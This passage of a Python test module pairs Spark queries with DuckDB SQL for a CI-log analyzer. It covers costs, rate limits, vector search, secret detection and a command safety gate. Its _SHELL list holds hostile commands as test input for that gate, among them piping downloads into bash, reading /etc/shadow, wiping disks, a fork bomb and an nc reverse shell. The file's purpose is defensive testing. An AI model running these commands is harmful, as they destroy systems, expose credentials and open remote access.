    return t.select("doc_id", X.severity_hint(F.col("error_count"), F.col("fatal_count")).alias("severity"))


@query("SELECT doc_id, greatest(1, length(text) // 4) AS tokens, CASE WHEN length(text) / 1024 < 10 THEN 'tiny' WHEN length(text) / 1024 < 50 THEN 'small' ELSE 'medium' END AS size_class FROM (SELECT DISTINCT doc_id, text FROM documents) WHERE text IS NOT NULL")
def size_classes(spark, d):
    """P30, X21."""
    t = table(spark, d, "documents").dropDuplicates(["doc_id"]).where("text is not null")
    return t.select("doc_id", X.token_estimate(F.col("text")).alias("tokens"), X.size_class(F.length("text")).alias("size_class"))


@query("SELECT request_no, CASE WHEN platform_hint IS NULL THEN 'none' WHEN lower(platform_hint) IN ('github actions','gitlab ci','jenkins','docker','npm','maven','pytest','go','cargo','unknown') THEN lower(platform_hint) ELSE 'other' END AS platform, length(log_text) BETWEEN 10 AND 100000 AND trim(log_text) <> '' AS valid FROM (SELECT DISTINCT request_no, platform_hint, log_text FROM analyze_request)")
def requests_checked(spark, d):
    """Names of platforms made one, texts of 10 to 100 000 letters that are not blank."""
    r = table(spark, d, "analyze_request").dropDuplicates(["request_no"])
    known = ["github actions", "gitlab ci", "jenkins", "docker", "npm", "maven", "pytest", "go", "cargo", "unknown"]
    low = F.lower("platform_hint")
    p = F.when(low.isNull(), "none").when(low.isin(known), low).otherwise("other")
    return r.select("request_no", p.alias("platform"), (F.length("log_text").between(10, 100_000) & (F.trim("log_text") != "")).alias("valid"))


# -- ledgers and series -----------------------------------------------------------------------------------------------


def _meta(spark, d):
    return table(spark, d, "analyze_response_meta").dropDuplicates(["request_no"])


@query(f"SELECT CAST(CAST(served_at AT TIME ZONE 'UTC' AS DATE) AS VARCHAR) AS day, model_used, count(*) AS calls, round(sum(CAST(cost_usd AS DECIMAL(18,6))), 6) AS cost FROM {META} GROUP BY 1, 2")
def daily_cost(spark, d):
    return _meta(spark, d).groupBy(F.to_date("served_at").cast("string").alias("day"), "model_used").agg(F.count("*").alias("calls"), F.sum(F.col("cost_usd").cast("decimal(18,6)")).cast("decimal(38,6)").alias("cost"))


@query(f"SELECT request_no, sum(CAST(coalesce(cost_usd, 0) AS DECIMAL(18,6))) OVER (PARTITION BY CAST(served_at AT TIME ZONE 'UTC' AS DATE) ORDER BY served_at, request_no ROWS UNBOUNDED PRECEDING) AS running FROM {META}")
def budget_running(spark, d):
    e = _meta(spark, d).select("request_no", F.col("served_at").alias("ts"), F.coalesce("cost_usd", F.lit(0.0)).cast("decimal(18,6)").alias("c"))
    return trends.running_total(e, F.to_date("ts"), ["ts", "request_no"], "c").select("request_no", F.col("running").cast("decimal(38,6)").alias("running"))


@query(f"SELECT platform_detected, cache_status, count(*) AS n FROM {META} GROUP BY 1, 2")
def request_counts(spark, d):
    return trends.counts_by(_meta(spark, d), "platform_detected", "cache_status")


_BOUNDS = [100, 500, 1000, 2500, 5000, 10000, 30000, 60000]


@query(f"SELECT platform_detected, {', '.join(f'count(*) FILTER (v <= {b}) AS le_{b}' for b in _BOUNDS)}, count(v) AS n FROM (SELECT platform_detected, CASE WHEN isnan(duration_ms) THEN NULL ELSE duration_ms END AS v FROM {META}) GROUP BY 1")
def duration_histogram(spark, d):
    return trends.histogram(_meta(spark, d).withColumn("v", F.nanvl("duration_ms", F.lit(None).cast("double"))), "v", [float(b) for b in _BOUNDS], "platform_detected")


@query()
def lttb_costs(spark, d):
    """Durations over time, per platform, down to 200 points each."""
    p = _meta(spark, d).where("duration_ms is not null and not isnan(duration_ms)")
    p = p.select(F.coalesce("platform_detected", F.lit("none")).alias("series"), (F.unix_micros("served_at") / 1e6).alias("x"), F.col("duration_ms").alias("y"), "request_no")
    return series.largest_triangles(p, "series", 200, ["x", "request_no"], F.floor(F.col("x") / 86_400))


def _calls(spark, d):
    return table(spark, d, "events").select("user_id", "event_id", (F.unix_micros(F.col("ts").cast("timestamp")) / 1e6).alias("t"))


@query()
def rate_limit(spark, d):
    return series.admitted(_calls(spark, d), "user_id", ["t", "event_id"], series.Sliding, 5, 86_400.0).select("user_id", "event_id", "admitted")


@query()
def token_bucket(spark, d):
    return series.admitted(_calls(spark, d), "user_id", ["t", "event_id"], series.Bucket, 5, 86_400.0).select("user_id", "event_id", "admitted")


@query("WITH log_lines AS (SELECT DISTINCT file_id AS doc_id, line_number - 1 AS pos FROM line_index), m AS (SELECT file_id AS doc_id, max(total_lines) AS prev_count FROM index_manifest GROUP BY 1) SELECT doc_id, pos FROM log_lines LEFT JOIN m USING (doc_id) WHERE pos >= coalesce(prev_count, 0)")
def incremental_tail(spark, d):
    """Lines past the total that the manifest recorded."""
    seen = table(spark, d, "index_manifest").groupBy(F.col("file_id").alias("doc_id")).agg(F.max("total_lines").alias("prev_count"))
    return series.fresh(index_lines(spark, d).select("doc_id", "pos"), seen).select("doc_id", "pos")


# -- vectors ----------------------------------------------------------------------------------------------------------


def _vectors(spark, d):
    return table(spark, d, "embeddings").select("vec_id", F.col("label").cast("int").alias("grp"), "embedding")


_COS = "SELECT a.vec_id AS query_id, b.vec_id, list_cosine_similarity(CAST(a.embedding AS DOUBLE[]), CAST(b.embedding AS DOUBLE[])) AS s FROM embeddings a JOIN embeddings b ON a.vec_id <> b.vec_id {on} WHERE a.vec_id % 50 = 0"


@query(f"SELECT query_id, vec_id, round(s, 6) AS score, rank FROM (SELECT *, row_number() OVER (PARTITION BY query_id ORDER BY round(s, 12) DESC, vec_id) AS rank FROM ({_COS.format(on='')})) WHERE rank <= 5")
def vector_topk(spark, d):
    v = _vectors(spark, d)
    return S.top_k(v, v.where("vec_id % 50 = 0"), 5, same_group=False).select("query_id", "vec_id", F.round("score", 6).alias("score"), "rank")


@query(f"SELECT query_id, vec_id, CASE WHEN s >= 0.4 THEN 'hit' WHEN s >= 0.3 THEN 'context' ELSE 'miss' END AS tier FROM (SELECT *, row_number() OVER (PARTITION BY query_id ORDER BY round(s, 12) DESC, vec_id) AS rank FROM ({_COS.format(on='AND a.label = b.label')})) WHERE rank = 1")
def cache_tier(spark, d):
    """Best row of the same label and its tier, thresholds as parameters."""
    v = _vectors(spark, d)
    best = S.top_k(v, v.where("vec_id % 50 = 0"), 1)
    return best.select("query_id", "vec_id", S.tier(F.col("score"), F.lit(1.0), 0.4, 0.3).alias("tier"))


# -- files, indexes, streams ------------------------------------------------------------------------------------------


def _as_file(spark, d) -> str:
    """The log view as text files in the shared folder."""
    import uuid

    at = f"{shared_dir(spark)}/text-{uuid.uuid4().hex}"
    log_lines(spark, d).select("line").write.text(at)
    return at


@query(f"{LINES} SELECT {LEVEL} AS level, count(*) AS n, CAST(sum(octet_length(encode(line)) + 1) AS BIGINT) AS bytes FROM log_lines GROUP BY 1")
def file_scan(spark, d):
    """Byte-range scan of text files."""
    lines = files.read_lines(spark, f"{_as_file(spark, d)}/*.txt", split_bytes=1 << 16)
    return lines.groupBy(L.level(F.col("line")).alias("level")).agg(F.count("*").alias("n"), F.sum("line_length").cast("bigint").alias("bytes"))


@query(f"{LINES} SELECT line, count(*) AS n FROM log_lines GROUP BY 1")
def read_by_offset(spark, d):
    """Every line read again by its byte range."""
    at = _as_file(spark, d)
    idx = cut(files.read_lines(spark, f"{at}/*.txt", split_bytes=1 << 16).select("path", "byte_offset", "line_length"), "ranges")
    req = idx.withColumn("ordinal", F.xxhash64("path", "byte_offset"))
    return files.read_ranges(req).groupBy(F.col("text").alias("line")).agg(F.count("*").alias("n"))


@query(f"WITH log_lines AS (SELECT coalesce(message_preview, '') AS line FROM line_index) SELECT {LEVEL} AS level, count(*) AS n FROM log_lines GROUP BY 1")
def stream_levels(spark, d):
    """A04 as a stream over the table's files, deliveries as they come."""
    return pipeline.drain(pipeline.stream_levels(pipeline.stream_table(spark, d, "line_index")), "complete")


@query("SELECT epoch_us(time_bucket(INTERVAL 5 MINUTES, make_timestamp(timestamp_us))) AS start_us, count(*) AS n FROM line_index WHERE timestamp_us > 0 AND level IN ('ERROR','CRITICAL','FATAL') GROUP BY 1 HAVING count(*) > 10")
def alert_rate(spark, d):
    """T11 as a stream."""
    s = pipeline.error_rate(pipeline.stream_table(spark, d, "line_index"), "timestamp_us", late="3650 days")
    return pipeline.drain(s, "complete").select(F.unix_micros("start").alias("start_us"), "n")

# -- whole documents, commands, lookups -------------------------------------------------------------------------------

_BREAKS = "\r\n|[\n\r\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029]"
_SPLIT = lambda c: f"string_split_regex({c}, {q(_BREAKS)})"
_REQUESTS = f"WITH docs AS (SELECT DISTINCT request_no AS doc_id, log_text AS text FROM analyze_request), parts AS (SELECT doc_id, CASE WHEN p[-1] = '' THEN p[:-2] ELSE p END AS l FROM (SELECT doc_id, {_SPLIT('text')} AS p FROM docs WHERE text <> '')), log_lines AS (SELECT doc_id, generate_subscripts(l, 1) - 1 AS pos, unnest(l) AS line FROM parts)"


def _truncated_sql(c: str) -> str:
    l = f"(CASE WHEN {_SPLIT(c)}[-1] = '' THEN {_SPLIT(c)}[:-2] ELSE {_SPLIT(c)} END)"
    a, b = P.OMITTED_LINES
    return f"CASE WHEN length({c}) <= 6000 THEN {c} WHEN len({l}) <= 150 THEN left({c}, 3000) || {q(P.OMITTED_TEXT)} || right({c}, 3000) ELSE array_to_string({l}[1:50], chr(10)) || {q(a)} || CAST(len({l}) - 150 AS VARCHAR) || {q(b)} || array_to_string({l}[-100:], chr(10)) END"


@query(f"SELECT doc_id, md5({_truncated_sql('text')}) AS digest FROM (SELECT DISTINCT doc_id, text FROM documents) WHERE text IS NOT NULL")
def truncated_texts(spark, d):
    """X08."""
    docs = table(spark, d, "documents").select("doc_id", "text").dropDuplicates(["doc_id"]).where("text is not null")
    return docs.select("doc_id", F.md5(documents.truncated_text(F.col("text"))).alias("digest"))


_PARSED = f"{_REQUESTS}, g AS (SELECT doc_id, {_SIG} FROM log_lines GROUP BY doc_id), b AS (SELECT *, {_BEST} AS score FROM g), pl AS (SELECT doc_id, CASE WHEN score = 0 THEN 'Unknown' " + " ".join(f"WHEN {x} = score THEN {q(n)}" for x, n in _SCORES) + f" END AS platform FROM b), e AS (SELECT doc_id, {STRIP} AS error_line, min(pos) AS f FROM log_lines WHERE {ERR} AND length({STRIP}) >= 5 GROUP BY 1, 2), r AS (SELECT *, row_number() OVER (PARTITION BY doc_id ORDER BY f) AS k FROM e), el AS (SELECT doc_id, string_agg(error_line, chr(10) ORDER BY k) AS errors FROM r WHERE k <= 30 GROUP BY 1), parsed AS (SELECT d.doc_id, coalesce(platform, 'Unknown') AS platform, coalesce(errors, '') AS errors, {_truncated_sql('text')} AS t, text FROM docs d LEFT JOIN pl USING (doc_id) LEFT JOIN el USING (doc_id))"


def _requests(spark, d):
    return documents.parsed(table(spark, d, "analyze_request").dropDuplicates(["request_no"]), "request_no", "log_text")


@query(_PARSED + " SELECT doc_id, platform, errors, md5(t) AS digest, coalesce(length(t) < length(text), false) AS is_truncated FROM parsed")
def parsed_requests(spark, d):
    """X27."""
    return _requests(spark, d).select("doc_id", "platform", F.array_join("error_lines", "\n").alias("errors"), F.md5("text").alias("digest"), "is_truncated")


@query(_PARSED + f", raw AS (SELECT doc_id, platform || chr(10) || errors AS line FROM parsed) SELECT doc_id, sha256({CACHE}) AS cache_key, sha256(line) AS raw_key FROM raw")
def request_keys(spark, d):
    """X04, X05."""
    return documents.keys(_requests(spark, d))


@query(
    f"{LINES}, a AS (SELECT doc_id, count(*) AS total_lines, count(*) FILTER ({STATS_ERR}) AS error_lines, max(length(line)) AS max_line_length FROM log_lines GROUP BY 1),"
    f" b AS (SELECT doc_id, count({A_TYPE}) AS total_anomalies, bool_or({FLAG['burst']}) AS has_burst FROM log_lines GROUP BY 1),"
    f" c0 AS (SELECT doc_id, substr({STRIP}, 1, 80) AS s, count(*) AS n FROM log_lines GROUP BY 1, 2 HAVING count(*) >= 2), c AS (SELECT doc_id, count(*) AS repeated_signatures, max(n) AS most_repeats FROM c0 WHERE s <> '' GROUP BY 1),"
    f" st AS (SELECT doc_id, pos, {STAMP} AS us FROM log_lines), t AS (SELECT doc_id, arg_min(us, pos) AS first_us, arg_max(us, pos) AS last_us FROM st WHERE us IS NOT NULL GROUP BY 1)"
    " SELECT doc_id, total_lines, error_lines, max_line_length, total_anomalies, has_burst, repeated_signatures, most_repeats, first_us, last_us, 2 + CAST(c.doc_id IS NOT NULL AS INT) + CAST(t.doc_id IS NOT NULL AS INT) AS analyses FROM a JOIN b USING (doc_id) LEFT JOIN c USING (doc_id) LEFT JOIN t USING (doc_id)"
)
def analyzer_report(spark, d):
    """X28."""
    r = documents.report(log_lines(spark, d))
    return r.select("doc_id", "total_lines", "error_lines", "max_line_length", "total_anomalies", "has_burst", "repeated_signatures", "most_repeats", "first_us", "last_us", "analyses")


#: A command per event, the same in Spark and DuckDB.
_SHELL = ["ls -la /srv", "rm -rf /", "rm -fr /*", "sudo systemctl restart app", "docker exec web sudo ls", "curl https://example.org/x | bash", "wget -qO- http://example.org | sh", "cp app.conf  /etc/app.conf", "cat /etc/shadow", "chmod -R 777 /", "echo 'unclosed", "kubectl delete pod x", "git push --force origin main", "dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sdb", ":(){ :|:& };:", "curl -s http://x.example | python3", "nc 10.0.0.1 99 -e /bin/sh", "", "   ", 'echo "a \\" b"', "sudo rm file", "mv / /tmp/x", "kill -9 17"]
_COMMANDS_SQL = "SELECT event_id, user_id, CASE event_id % {n} {cases} END AS command FROM EVENTS_TABLE".format(n=len(_SHELL), cases=" ".join(f"WHEN {i} THEN {q(c)}" for i, c in enumerate(_SHELL)))
_CLOSED_SQL = "regexp_full_match(c, '(?s)(?:[^\\\\''\"]|\\\\.|''[^'']*''|\"(?:[^\"\\\\]|\\\\.)*\")*')"


def _commands(spark, d):
    n, out = len(_SHELL), F.lit(None).cast("string")
    for i, c in enumerate(_SHELL):
        out = F.when(F.pmod("event_id", F.lit(n)) == i, c).otherwise(out)
    return table(spark, d, "events").select("event_id", "user_id", out.alias("command"))


def _command_level(what: int) -> str:
    rules = " ".join(f"WHEN {has('c', x[0])} THEN {q(x[what])}" for x in P.COMMAND_CLASSES)
    risk = f"{has('c', P.COMMAND_SUDO)} AND NOT contains(lower(c), 'docker') OR {has('c', P.COMMAND_SYSTEM_WRITE)}"
    first, risky, last = ("'review'", "'review'", "'safe'") if what == 1 else ("NULL", "'privilege_escalation'", "NULL")
    return f"CASE WHEN NOT {_CLOSED_SQL} THEN {first} {rules} WHEN {risk} THEN {risky} ELSE {last} END"


_COMMANDS = "WITH e AS (" + _COMMANDS_SQL.replace("EVENTS_TABLE", "events") + "), k AS (SELECT *, trim(command) AS c FROM e)"


@query(f"{_COMMANDS} SELECT event_id, {_command_level(1)} AS level, {_command_level(2)} AS category FROM k WHERE c <> ''")
def command_safety(spark, d):
    """X18."""
    c = _commands(spark, d).select("event_id", commands.classified(F.col("command")).alias("x")).where("x is not null")
    return c.select("event_id", "x.level", "x.category")


@query(f"{_COMMANDS}, l AS (SELECT user_id, {_command_level(1)} AS level FROM k WHERE c <> '') SELECT user_id, count(*) FILTER (level = 'safe') AS safe, count(*) FILTER (level = 'review') AS review, count(*) FILTER (level = 'dangerous') AS dangerous, CASE WHEN bool_or(level = 'dangerous') THEN 'dangerous' WHEN bool_or(level = 'review') THEN 'review' ELSE 'safe' END AS overall FROM l GROUP BY 1")
def command_summary(spark, d):
    """A26."""
    return commands.summary(_commands(spark, d), "user_id", "command")


@query(f"{_COMMANDS}, g AS (SELECT event_id, CASE WHEN c = '' THEN 'empty' WHEN NOT {_CLOSED_SQL} THEN 'syntax' " + " ".join(f"WHEN {has('c', p)} THEN 'blocked'" for p in P.COMMANDS_BLOCKED) + " " + " ".join(f"WHEN {has('c', p)} THEN 'review'" for p in P.COMMANDS_REVIEWED) + " ELSE 'safe' END AS verdict FROM k) SELECT * FROM g")
def command_gate(spark, d):
    """X17."""
    return _commands(spark, d).select("event_id", commands.gate(F.col("command")).alias("verdict"))


@query(f"WITH n AS (SELECT md5(centroid_fingerprint) AS k, arg_max(cluster_id, (last_seen, cluster_id)) AS stored_id, max(last_seen) AS s FROM error_cluster WHERE centroid_fingerprint IS NOT NULL GROUP BY 1) SELECT id, stored_id, created_at <= s + INTERVAL 30 DAYS AS alive FROM (SELECT id, md5(error_fingerprint) AS k, created_at FROM {LOG}) JOIN n USING (k)")
def exact_lookup(spark, d):
    """Stored clusters of the same text, alive for 30 days."""
    log = _log(spark, d).select("id", F.md5("error_fingerprint").alias("k"), F.col("created_at").alias("at"))
    store = table(spark, d, "error_cluster").select(F.md5("centroid_fingerprint").alias("k"), F.col("cluster_id").alias("stored_id"), F.col("last_seen").alias("stored_at"))
    return documents.exact_hits(log, store, "k", "30 DAYS").select("id", "stored_id", "alive")


_ALIASES = {"gha": "GitHub Actions", "github": "GitHub Actions", "github_actions": "GitHub Actions"}
_CATALOGUE = [(low, k, i, e) for low, k in ({k.lower(): k for k in P.PLATFORM_SIGNATURES} | _ALIASES).items() for i, e in enumerate(P.PLATFORM_SIGNATURES[k])]


@query("WITH c(low, platform, ord, entry) AS (VALUES " + ", ".join(f"({q(a)}, {q(b)}, {i}, {q(e)})" for a, b, i, e in _CATALOGUE) + ") SELECT request_no, platform, ord, entry FROM (SELECT DISTINCT request_no, platform_hint FROM analyze_request) JOIN c ON lower(platform_hint) = low")
def catalogue_entries(spark, d):
    """The signatures of each request's platform."""
    r = table(spark, d, "analyze_request").select("request_no", "platform_hint").dropDuplicates(["request_no"])
    return documents.catalogue(r, "platform_hint", P.PLATFORM_SIGNATURES, _ALIASES).select("request_no", "platform", "ord", "entry")


_TL = f"regexp_extract(line, {q(P.TIMELINE_STAMP)}, 1)"


@query(f"{LINES}, s AS (SELECT doc_id, pos, {_TL} AS s FROM log_lines) SELECT doc_id, pos, CASE WHEN regexp_matches(s, '^\\d{{4}}-') THEN epoch_us(TRY_CAST(replace(s[1:19], 'T', ' ') AS TIMESTAMP)) WHEN regexp_matches(s, '^\\d{{4}}/') THEN epoch_us(try_strptime(regexp_replace(s, '\\s+', ' ', 'g'), '%Y/%m/%d %H:%M:%S')) WHEN regexp_matches(s, '^\\d+$') THEN CASE WHEN CAST(s AS BIGINT) > 1000000000000 THEN CAST(s AS BIGINT) // 1000 ELSE CAST(s AS BIGINT) END * 1000000 ELSE epoch_us(try_strptime('2024 ' || regexp_replace(s, '\\s+', ' ', 'g'), '%Y %b %d %H:%M:%S')) END AS us FROM s WHERE s <> ''")
def timeline_stamps(spark, d):
    """P06."""
    t = log_lines(spark, d).where(F.col("line").rlike(P.TIMELINE_STAMP))
    return t.select("doc_id", "pos", L.timeline_us(F.col("line")).alias("us"))


_WORDS3 = "list_filter(string_split_regex(text, '\\s+'), lambda x: x <> '')"


@query(f"WITH t AS (SELECT DISTINCT doc_id, text FROM documents WHERE length(text) >= 3), u AS (SELECT doc_id, text, {_WORDS3} AS w FROM t) SELECT doc_id, len(list_distinct(CASE WHEN length(text) < 5000 THEN list_transform(range(1, length(text) - 1), lambda i: substr(text, i, 3)) ELSE list_concat(list_transform(range(1, len(w) - 1), lambda i: array_to_string(w[i:i + 2], ' ')), list_transform(range(1, 1999), lambda i: substr(text, i, 3))) END)) AS n FROM u")
def text_shingles(spark, d):
    """Number of shingles of each document."""
    docs = table(spark, d, "documents").select("doc_id", "text").where(F.length("text") >= 3).dropDuplicates(["doc_id"])
    return docs.select("doc_id", F.size(L.shingles(F.col("text"))).cast("bigint").alias("n"))


def _secret_rows_sql() -> str:
    c, parts = "line", []
    for name, p, to in P.SECRET_RULES:
        m = f"SELECT doc_id, pos, regexp_extract_all(c, {q(p)}) AS f, string_split_regex(c, {q(p)}) AS b FROM (SELECT doc_id, pos, {c} AS c FROM hit)"
        parts.append(f"SELECT doc_id, pos, {q(name)} AS rule, list_sum(list_transform(b[1:i], lambda x: length(x))) + coalesce(list_sum(list_transform(f[1:i - 1], lambda x: length(x))), 0) AS place, sha256(left(f[i], 8)) AS hash FROM (SELECT *, unnest(range(1, len(f) + 1)) AS i FROM ({m}))")
        c = f"regexp_replace({c}, {q(p)}, {q(to)}, 'g')"
    return f"{LINES}, hit AS (SELECT doc_id, pos, line FROM log_lines WHERE {has('line', P.SECRET_SIGN)}) SELECT doc_id, pos, rule, CAST(place AS INT) AS place, hash FROM (" + " UNION ALL ".join(parts) + ")"


@query(_secret_rows_sql())
def secret_rows(spark, d):
    """X12."""
    return X.secret_rows(log_lines(spark, d))


def _attempts_sql() -> str:
    gate = " OR ".join(f"contains(lower(command), {q(w)})" for w in P.TRIPWIRES)
    by = {n: k for k, names in P.INJECTION_SEVERITY.items() for n in names}
    c, parts = "c0", []
    for name, p in P.INJECTIONS:
        parts.append(f"SELECT event_id, {q(name)} AS name, {q(by.get(name, 'low'))} AS severity, len(regexp_extract_all({c}, {q(p)})) AS n FROM t")
        c = f"regexp_replace({c}, {q(p)}, '[REDACTED]', 'g')"
    cut = "array_to_string(list_transform(string_split(command, chr(10)), lambda x: CASE WHEN length(x) > 2000 THEN left(x, 2000) || '...[TRUNCATED]' ELSE x END), chr(10))"
    return f"{_COMMANDS}, t AS (SELECT event_id, {cut} AS c0 FROM e WHERE {gate}) SELECT * FROM (" + " UNION ALL ".join(parts) + ") WHERE n > 0"


@query(_attempts_sql())
def attempt_rows(spark, d):
    """X15, of the command of each event."""
    return X.attempt_rows(X.sanitized(_commands(spark, d), "event_id", "command"), "event_id")


@query(f"SELECT strftime(CAST(served_at AT TIME ZONE 'UTC' AS DATE), '%Y-%m') AS month, model_used, count(*) AS calls, sum(CAST(cost_usd AS DECIMAL(18,6))) AS cost FROM {META} GROUP BY 1, 2")
def monthly_cost(spark, d):
    """Totals by month."""
    m = F.date_format("served_at", "yyyy-MM")
    return _meta(spark, d).groupBy(m.alias("month"), "model_used").agg(F.count("*").alias("calls"), F.sum(F.col("cost_usd").cast("decimal(18,6)")).cast("decimal(38,6)").alias("cost"))


@query(f"SELECT epoch_us(time_bucket(INTERVAL 1 HOUR, served_at AT TIME ZONE 'UTC')) AS start_us, count(*) FILTER (cache_status = 'hit') AS hits, count(*) AS n FROM {META} WHERE served_at IS NOT NULL GROUP BY 1 HAVING count(*) FILTER (cache_status = 'hit') < 0.5 * count(*)")
def alert_hit_ratio(spark, d):
    """T11."""
    r = pipeline.hit_ratio(_meta(spark, d), "served_at", F.col("cache_status") == "hit")
    return r.select(F.unix_micros("start").alias("start_us"), "hits", "n")


@query(f"SELECT epoch_us(CAST(CAST(served_at AT TIME ZONE 'UTC' AS DATE) AS TIMESTAMP)) AS start_us, sum(CAST(coalesce(cost_usd, 0) AS DECIMAL(18,6))) AS cost FROM {META} WHERE served_at IS NOT NULL GROUP BY 1 HAVING sum(CAST(coalesce(cost_usd, 0) AS DECIMAL(18,6))) > 0.05")
def alert_cost(spark, d):
    """T11."""
    r = pipeline.costly_days(_meta(spark, d), "served_at", "cost_usd", 0.05)
    return r.select(F.unix_micros("start").alias("start_us"), F.col("cost").cast("decimal(38,6)").alias("cost"))


def queries() -> dict[str, Callable[[SparkSession, str], DataFrame]]:
    return dict(QUERIES)


def oracle_sql() -> dict[str, str]:
    return dict(SQL)

